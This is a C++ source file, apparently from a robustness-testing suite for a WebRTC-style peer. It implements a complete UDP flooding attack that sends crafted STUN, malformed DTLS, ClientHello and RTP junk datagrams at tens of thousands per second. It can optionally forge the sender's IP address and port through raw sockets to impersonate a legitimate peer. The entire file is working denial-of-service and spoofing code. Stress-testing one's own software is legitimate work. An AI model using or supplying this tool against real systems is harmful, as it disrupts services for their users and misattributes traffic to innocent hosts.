// Junk for the UDP port of a peer: by strangers, or under the address of its real peer (raw
// sockets, so root). Made cheaply: batches by segmentation offload or sendmmsg, paced by the
// millisecond.
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <cstring>
#include <memory>
#include <string>
#include <vector>

#include "messages.h"
#include "options.h"

namespace ming::hostile {
namespace {

using std::chrono::microseconds;
using std::chrono::milliseconds;

constexpr size_t kBatch = 50;
using Datagram = std::vector<uint8_t>;

void PutU16(Datagram& bytes, size_t at, size_t value) {
  bytes[at] = static_cast<uint8_t>(value >> 8);
  bytes[at + 1] = static_cast<uint8_t>(value);
}

Datagram RandomBytes(Generator& random, size_t size) {
  Datagram bytes(size);
  for (uint8_t& byte : bytes) byte = static_cast<uint8_t>(random());
  return bytes;
}

uint32_t Crc32(const uint8_t* bytes, size_t size) {
  uint32_t crc = ~0u;
  for (size_t at = 0; at < size; ++at) {
    crc ^= bytes[at];
    for (int bit = 0; bit < 8; ++bit) crc = crc >> 1 ^ ((crc & 1) != 0 ? 0xEDB88320u : 0u);
  }
  return ~crc;
}

// A Binding request (RFC 8489) with `username`, a MESSAGE-INTEGRITY of random bytes and a right
// FINGERPRINT.
Datagram StunRequest(Generator& random, const std::string& username) {
  Datagram bytes = RandomBytes(random, 20);
  const auto begin = [&bytes](size_t type, size_t size) {
    const size_t at = bytes.size();
    bytes.resize(at + 4);
    PutU16(bytes, at, type);
    PutU16(bytes, at + 2, size);
  };
  PutU16(bytes, 0, 0x0001);
  constexpr std::array<uint8_t, 4> kCookie = {0x21, 0x12, 0xA4, 0x42};
  std::copy(kCookie.begin(), kCookie.end(), bytes.begin() + 4);
  begin(0x0006, username.size());
  bytes.insert(bytes.end(), username.begin(), username.end());
  bytes.resize((bytes.size() + 3) / 4 * 4);
  begin(0x0024, 4);  // PRIORITY
  bytes.insert(bytes.end(), {0x6e, 0x00, 0x1e, 0xff});
  begin(0x8029, 8);  // ICE-CONTROLLED
  bytes.resize(bytes.size() + 8);
  begin(0x0008, 20);  // MESSAGE-INTEGRITY
  const Datagram wrong = RandomBytes(random, 20);
  bytes.insert(bytes.end(), wrong.begin(), wrong.end());
  PutU16(bytes, 2, bytes.size() + 8 - 20);
  const uint32_t crc = Crc32(bytes.data(), bytes.size()) ^ 0x5354554e;
  begin(0x8028, 4);
  for (int shift = 24; shift >= 0; shift -= 8) bytes.push_back(static_cast<uint8_t>(crc >> shift));
  return bytes;
}

// One DTLS record of random content: its header claims `claimed` bytes.
Datagram DtlsRecord(Generator& random, uint8_t type, size_t size, size_t claimed) {
  Datagram bytes = RandomBytes(random, 13 + size);
  bytes[0] = type;
  bytes[1] = 254;
  bytes[2] = 253;
  PutU16(bytes, 3, type == 23 ? 1 : 0);  // epoch: protected once the handshake is done
  PutU16(bytes, 5, 0);
  PutU16(bytes, 11, claimed);
  return bytes;
}

// A ClientHello without cookie, as a stranger's first flight.
Datagram ClientHello(Generator& random) {
  constexpr size_t kBody = 2 + 32 + 1 + 1 + 4 + 2;
  Datagram bytes = DtlsRecord(random, 22, 12 + kBody, 12 + kBody);
  PutU16(bytes, 3, 0);
  std::fill(bytes.begin() + 5, bytes.begin() + 11, uint8_t{0});
  uint8_t* handshake = bytes.data() + 13;
  const std::array<uint8_t, 12> head = {1, 0, 0, kBody, 0, 0, 0, 0, 0, 0, 0, kBody};
  std::copy(head.begin(), head.end(), handshake);
  handshake[12] = 254;
  handshake[13] = 253;
  // No session, no cookie, one suite, no compression.
  const std::array<uint8_t, 8> rest = {0, 0, 0, 2, 0xc0, 0x2b, 1, 0};
  std::copy(rest.begin(), rest.end(), handshake + 12 + 2 + 32);
  return bytes;
}

// One datagram of a kind; all of a kind have one size, as segmentation offload needs.
Datagram MakeJunk(const std::string& kind, Generator& random, const std::string& username,
                  size_t size) {
  if (kind == "random") return RandomBytes(random, size);
  if (kind == "stun") return StunRequest(random, username);
  if (kind == "dtls") return DtlsRecord(random, 23, size - 13, size - 13);
  if (kind == "truncated") return DtlsRecord(random, 23, size - 13, 4 * size);
  if (kind == "handshake") return DtlsRecord(random, 22, size - 13, size - 13);
  if (kind == "alert") return DtlsRecord(random, 21, 2, 2);
  if (kind == "hello") return ClientHello(random);
  if (kind == "rtp") {
    Datagram bytes = RandomBytes(random, size);
    bytes[0] = 0x80;
    return bytes;
  }
  GiveUp(2, "no kind is named " + kind);
}

std::vector<std::string> Kinds(const std::string& list) {
  std::vector<std::string> kinds(1);
  for (const char c : list) {
    if (c == ',') {
      kinds.emplace_back();
    } else {
      kinds.back() += c;
    }
  }
  return kinds;
}

// kBatch datagrams of one kind, made once and sent again and again.
class Volley {
 public:
  virtual ~Volley() = default;
  virtual size_t Fire() = 0;  // how many left
};

// As ourselves: one call, cut by the kernel.
class OwnVolley final : public Volley {
 public:
  OwnVolley(const sockaddr_in& target, const std::vector<Datagram>& datagrams)
      : fd_(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0)), count_(datagrams.size()) {
    const int segment = static_cast<int>(datagrams.front().size());
    for (const Datagram& one : datagrams) bytes_.insert(bytes_.end(), one.begin(), one.end());
    if (connect(fd_, reinterpret_cast<const sockaddr*>(&target), sizeof(target)) != 0 ||
        setsockopt(fd_, SOL_UDP, UDP_SEGMENT, &segment, sizeof(segment)) != 0) {
      GiveUpOnError("junk");
    }
  }
  ~OwnVolley() override { close(fd_); }
  size_t Fire() override {
    return send(fd_, bytes_.data(), bytes_.size(), MSG_DONTWAIT) < 0 ? 0 : count_;
  }

 private:
  const int fd_;
  const size_t count_;
  Datagram bytes_;
};

// Under another one's address: whole IP packets, many a call.
class SpoofedVolley final : public Volley {
 public:
  SpoofedVolley(const sockaddr_in& source, const sockaddr_in& target,
                const std::vector<Datagram>& datagrams)
      : fd_(socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW)), target_(target) {
    if (fd_ < 0) {
      GiveUpOnError("raw socket");
    }
    target_.sin_port = 0;
    for (const Datagram& one : datagrams) packets_.push_back(MakePacket(source, target, one));
    parts_.resize(packets_.size());
    messages_.resize(packets_.size());
    for (size_t at = 0; at < packets_.size(); ++at) {
      parts_[at] = {packets_[at].data(), packets_[at].size()};
      messages_[at].msg_hdr.msg_name = &target_;
      messages_[at].msg_hdr.msg_namelen = sizeof(target_);
      messages_[at].msg_hdr.msg_iov = &parts_[at];
      messages_[at].msg_hdr.msg_iovlen = 1;
    }
  }
  ~SpoofedVolley() override { close(fd_); }
  size_t Fire() override {
    const int sent = sendmmsg(fd_, messages_.data(), static_cast<unsigned>(messages_.size()), 0);
    return sent < 0 ? 0 : static_cast<size_t>(sent);
  }

 private:
  // The kernel fills in the checksum of the IP header; that of UDP may be left out.
  static Datagram MakePacket(const sockaddr_in& source, const sockaddr_in& target,
                             const Datagram& payload) {
    iphdr ip{};
    ip.version = 4;
    ip.ihl = 5;
    ip.ttl = 64;
    ip.protocol = IPPROTO_UDP;
    ip.saddr = source.sin_addr.s_addr;
    ip.daddr = target.sin_addr.s_addr;
    ip.tot_len = htons(static_cast<uint16_t>(sizeof(ip) + sizeof(udphdr) + payload.size()));
    udphdr udp{};
    udp.source = source.sin_port;
    udp.dest = target.sin_port;
    udp.len = htons(static_cast<uint16_t>(sizeof(udp) + payload.size()));
    Datagram packet(sizeof(ip) + sizeof(udp));
    std::memcpy(packet.data(), &ip, sizeof(ip));
    std::memcpy(packet.data() + sizeof(ip), &udp, sizeof(udp));
    packet.insert(packet.end(), payload.begin(), payload.end());
    return packet;
  }

  const int fd_;
  sockaddr_in target_;
  std::vector<Datagram> packets_;
  std::vector<iovec> parts_;
  std::vector<mmsghdr> messages_;
};

void Junk(const Options& options, Report& report) {
  Generator random(4);
  const sockaddr_in target = options.Address("target");
  const bool spoofed = options.Text("source") != "own";
  std::vector<std::unique_ptr<Volley>> volleys;
  for (const std::string& kind : Kinds(options.Text("kinds"))) {
    std::vector<Datagram> datagrams;
    for (size_t at = 0; at < kBatch; ++at) {
      datagrams.push_back(MakeJunk(kind, random, options.Text("username"), options.Number("size")));
    }
    if (spoofed) {
      volleys.push_back(
          std::make_unique<SpoofedVolley>(options.Address("source"), target, datagrams));
    } else {
      volleys.push_back(std::make_unique<OwnVolley>(target, datagrams));
    }
  }
  const auto interval = std::chrono::duration_cast<Clock::duration>(std::chrono::seconds(kBatch)) /
                        static_cast<Clock::rep>(options.Number("rate"));
  report.PrintStarted();
  const auto end = Clock::now() + options.Seconds("seconds");
  auto next = Clock::now();
  for (size_t turn = 0; Clock::now() < end; ++turn) {
    const size_t sent = volleys[turn % volleys.size()]->Fire();
    report.Add("datagrams", sent);
    report.Add("not_sent", kBatch - sent);
    next += interval;
    const auto wait = next - Clock::now();
    if (wait <= Clock::duration::zero()) continue;
    const auto nanoseconds = std::chrono::duration_cast<std::chrono::nanoseconds>(wait).count();
    const timespec time{nanoseconds / 1'000'000'000, nanoseconds % 1'000'000'000};
    nanosleep(&time, nullptr);
  }
}

}  // namespace

std::vector<Attack> DatagramAttacks() {
  return {{"junk",
           "datagrams for a UDP port",
           {{"target", "", "IPV4:PORT"},
            {"source", "own", "IPV4:PORT to send under, or own"},
            {"kinds", "random",
             "of random, stun, dtls, truncated, handshake, alert, hello, rtp: a list"},
            {"rate", "50000", "datagrams a second"},
            {"size", "120", "bytes of those without a size of their own"},
            {"username", "aaaa:bbbb", "USERNAME of stun"},
            {"seconds", "5", "how long"}},
           Junk}};
}

}  // namespace ming::hostile
